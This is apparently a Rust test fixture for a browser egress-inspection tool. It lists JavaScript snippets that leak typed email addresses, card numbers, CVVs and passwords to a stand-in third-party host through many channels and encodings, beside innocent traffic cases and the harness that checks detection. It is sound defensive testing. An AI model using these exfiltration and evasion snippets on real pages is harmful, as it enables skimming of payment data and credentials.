//! Ways in which a page passes on what was typed, and innocent traffic beside them: what the inspection has to
//! tell apart, in a table for the tests and for `cargo xtask bench`.

use crate::{Page, Visitor, json};

/// What a page does, in JavaScript: `X` is an address of a company that nobody has declared, `PAY` and `STATS`
/// are declared; values and ways to write them are in `leaks.js`.
#[derive(Clone, Copy, Debug)]
pub struct Case {
    /// What it is called.
    pub name: &'static str,
    /// What the page does.
    pub act: &'static str,
}

const fn case(name: &'static str, act: &'static str) -> Case {
    Case { name, act }
}

/// What has to be told.
pub const LEAKS: &[Case] = &[
    case("fetch, address, plain", "fetch(X + '?e=' + E)"),
    case("fetch, address, percent-encoded", "fetch(X + '?e=' + pct(E))"),
    case("fetch, address, percent-encoded twice", "fetch(X + '?e=' + pct(pct(E)))"),
    case("fetch, JSON, plain", "fetch(X, post(JSON.stringify({ email: E })))"),
    case("fetch, JSON, escaped", r"fetch(X, post(JSON.stringify({ email: E }).replace('@', '\\u0040')))"),
    case("Request, plain", "fetch(new Request(X, post(E)))"),
    case("fetch, Blob, plain", "fetch(X, post(new Blob([E])))"),
    case("fetch, header, plain", "fetch(X, { headers: { 'x-a': E } })"),
    case("XHR, form-urlencoded", "xhr(X, new URLSearchParams({ e: E }))"),
    case("XHR, FormData", "{ const data = new FormData(); data.append('e', E); xhr(X, data); }"),
    case("beacon, md5", "navigator.sendBeacon(X, MD5)"),
    case(
        "beacon, Blob with JSON, sha256",
        "navigator.sendBeacon(X, new Blob([JSON.stringify({ em: sha256L })], { type: 'application/json' }))",
    ),
    case("img.src, sha256", "new Image().src = X + '?u=' + sha256L"),
    case("img.src, sha256 in upper case", "new Image().src = X + '?u=' + sha256L.toUpperCase()"),
    case("setAttribute, sha1", "document.createElement('img').setAttribute('src', X + '?u=' + sha1L)"),
    case("innerHTML, base64", "box().innerHTML = '<p><img src=\"' + X + '?d=' + pct(btoa(E)) + '\"></p>'"),
    case(
        "script.src, base64url",
        "{ const s = document.createElement('script'); s.src = X + '?d=' + b64url(E); document.head.append(s); }",
    ),
    case(
        "iframe.src, path",
        "{ const f = document.createElement('iframe'); f.src = X + '/' + pct(E) + '/x'; box().append(f); }",
    ),
    case(
        "link, prefetch",
        "{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = X + '?' + E; document.head.append(l); }",
    ),
    case("style attribute, hex", "box().style.backgroundImage = 'url(' + X + '?' + hex(E) + ')'"),
    case(
        "style element, hex",
        "{ const s = document.createElement('style'); s.textContent = 'h1 { background: url(\"' + X + '?' + hex(E) + '\") }'; document.head.append(s); }",
    ),
    case(
        "insertRule, hex",
        "{ const s = document.createElement('style'); document.head.append(s); s.sheet.insertRule('h1 { background: url(' + X + '?' + hex(E) + ') }'); }",
    ),
    case("WebSocket frame, plain", "new WebSocket(X.replace('http', 'ws')).send(E)"),
    case(
        "WebSocket frame, base64 of JSON",
        "new WebSocket(X.replace('http', 'ws')).send(btoa(JSON.stringify({ email: E })))",
    ),
    case("EventSource, md5", "new EventSource(X + '?u=' + MD5)"),
    case("requestSubmit, card", "formTo(X, { card: C }).requestSubmit()"),
    case("form.submit, card", "formTo(X, { card: C }).submit()"),
    case("location, card's digits", "follow(X + '?c=' + digits(C))"),
    case("window.open, password", "window.open(X + '?p=' + P)"),
    case("ping, phone", "pings(X + '?t=' + pct(T))"),
    case("new Image, card with dashes", "new Image().src = X + '?c=' + C.replaceAll(' ', '-')"),
    case("fetch, base64 twice", "fetch(X, post(btoa(btoa(C))))"),
    case(
        "fetch, base64 of JSON in JSON",
        "fetch(X, post(JSON.stringify({ d: btoa(JSON.stringify({ email: E })) })))",
    ),
    case("fetch, sha256 of the address as Gmail has it", "fetch(X + '?u=' + sha256G)"),
    case("fetch, sha256 of the phone in E.164", "fetch(X + '?u=' + sha256T)"),
    case("fetch, base64 of a raw sha256", "fetch(X + '?u=' + pct(rawB64))"),
    case("fetch, md5 of sha1", "fetch(X + '?u=' + MD5SHA1)"),
    case("fetch, salted sha256", "fetch(X + '?u=' + sha256S)"),
    case("fetch, gzip", "fetch(X, post(zipped))"),
    case("fetch, password to who may count visits", "fetch(STATS, post(new URLSearchParams({ p: P })))"),
    case("fetch, card and its code", "fetch(X, post(JSON.stringify({ cvv: V, pan: digits(C) })))"),
    case(
        "worker without an address",
        "new Worker(URL.createObjectURL(new Blob(['onmessage = () => {}']))).postMessage(E)",
    ),
    case("fetch, to a declared place before sending", "fetch(PAY, post(E))"),
    case("fetch, reversed", "fetch(X, post([...E].reverse().join('')))"),
];

/// What may not be told: nothing that was typed is in it, or it goes where it may.
pub const INNOCENT: &[Case] = &[
    case(
        "a page view",
        "fetch(X + '?v=1&t=pageview&dl=' + pct(location.href) + '&dt=A%20page&sr=1920x1080')",
    ),
    case("a random id in hex", "fetch(X + '?id=9f86d081884c7d659a2feaa0c55ad015')"),
    case("a UUID", "fetch(X + '?id=f47ac10b-58cc-4372-a567-0e02b2c3d479')"),
    case("a token", "fetch(X + '?t=q0Zk1V5mYxJ2c3RhdGVtZW50LXRva2Vu')"),
    case(
        "a JWT",
        "fetch(X, { headers: { authorization: 'Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U' } })",
    ),
    case("a mail provider's name", "fetch(X + '?domain=gmail.com')"),
    case("the card's code within a time", "fetch(X + '?ts=1737936004')"),
    case("an order number like the card's", "fetch(X + '?order=411111-2026')"),
    case("the site's own server", "fetch('/receive/validate', post(JSON.stringify({ email: E })))"),
    case("a picture of 133 KB", "fetch(X, post('data:image/png;base64,' + noise(133_000)))"),
    case(
        "a hash of a script",
        "fetch(X + '?i=sha384-oqVuAfXRKap7fdgcCY5uykM6%2BR9GqQ8K%2FuxK1jG3n0b1k2l3m4n5o6p7q8r9s0tu')",
    ),
    case("hasOwnProperty", "fetch(X, post('Object.prototype.hasOwnProperty.call(a, b)'))"),
    case("a hash of somebody else's address", "fetch(X + '?u=' + sha256Other)"),
    case(
        "that a field has the focus",
        "fetch(STATS, post(JSON.stringify({ event: 'email_field_focused' })))",
    ),
    case("an address that stands in the page", "fetch(X + '?contact=office@shop.example')"),
    case("the first two letters", "fetch(X + '?q=Ja')"),
    case("a packed text without it", "fetch(X, post(zippedClean))"),
    case("a word with a name in it", r#"fetch(X, post("it doesn't matter"))"#),
    case("a picture that is not loaded from anywhere", "new Image().src = 'data:text/plain,' + E"),
];

/// What is typed into which field.
const TYPED: &[(&str, &str)] = &[
    ("email", "Jane.Doe+shop@gmail.com"),
    ("card", "4111 1111 1111 1111"),
    ("password", "hunter2Zq!9"),
    ("phone", "+49 151 23456789"),
    ("name", "Jane Doe"),
    ("cvc", "737"),
];

/// Whether the part that looks into what leaves has been fetched.
pub const LOADED: &str =
    "performance.getEntriesByType('resource').some(one => /split_egress/.test(one.name) && one.responseEnd)";

/// Where a case sends to: a name of its own, so that each is a cause of its own.
pub fn destination(visitor: &Visitor, name: &str) -> String {
    visitor.site().other.origin(&format!("{name}.localhost"))
}

/// Opens the page in a mode, and types everything.
pub async fn open(visitor: &Visitor, mode: &str) {
    let (pay, stats) = (destination(visitor, "pay"), destination(visitor, "stats"));
    let page = Page::of("leaks.html")
        .before_loader(r#"<script src="/fixtures/socket.js"></script>"#)
        .configured(|config| {
            config["egress"] = json!({ "mode": mode, "destinations": [
            { "origin": pay, "data": ["contact", "financial"], "when": "after-submit" },
            { "origin": stats, "data": [] },
        ] });
        });
    visitor.site().page("/", page);
    visitor.visits("/").await;
    visitor.runs("privacyWidget.rejectAll()").await;
    visitor.sees("!banner() && window.readyToLeak").await;
    for (field, text) in TYPED {
        visitor.types(&format!("[name={field}]"), text).await;
    }
    is_watched(visitor).await;
}

/// Waits until the inspection has begun: until then, requests wait.
pub async fn is_watched(visitor: &Visitor) {
    visitor.sees(LOADED).await;
    visitor.evaluates("fetch('data:,').then(() => true, () => true)").await;
    visitor.rests().await;
}

/// Has the page do these, each to a place of its own whose name begins with `prefix`; gives for each whether
/// something was told of it.
pub async fn told(visitor: &Visitor, prefix: &str, cases: &[Case]) -> Vec<bool> {
    let (pay, stats) = (destination(visitor, "pay"), destination(visitor, "stats"));
    let before = "const heard = seen.events.filter(event => event.type === 'leak').length;";
    let mut all = Vec::new();
    for (at, case) in cases.iter().enumerate() {
        let there = destination(visitor, &format!("{prefix}{at}")) + "/receive/x";
        let act =
            if case.act.starts_with('{') { format!("undefined; {}", case.act) } else { case.act.to_owned() };
        let script = format!(
            "(() => {{ const X = {}, PAY = {}, STATS = {};
               try {{ const made = {act}; made?.catch?.(() => {{}}); }} catch {{ /* It was stopped. */ }} }})()",
            json!(there),
            json!(format!("{pay}/receive/x")),
            json!(format!("{stats}/receive/x")),
        );
        visitor.runs(&format!("{before} window.heard = heard; act({})", json!(script))).await;
        // Told at once, or after what is read and observed asynchronously.
        visitor.rests().await;
        let told = visitor
            .evaluates("seen.events.filter(event => event.type === 'leak').length > window.heard")
            .await;
        all.push(told == json!(true));
    }
    all
}
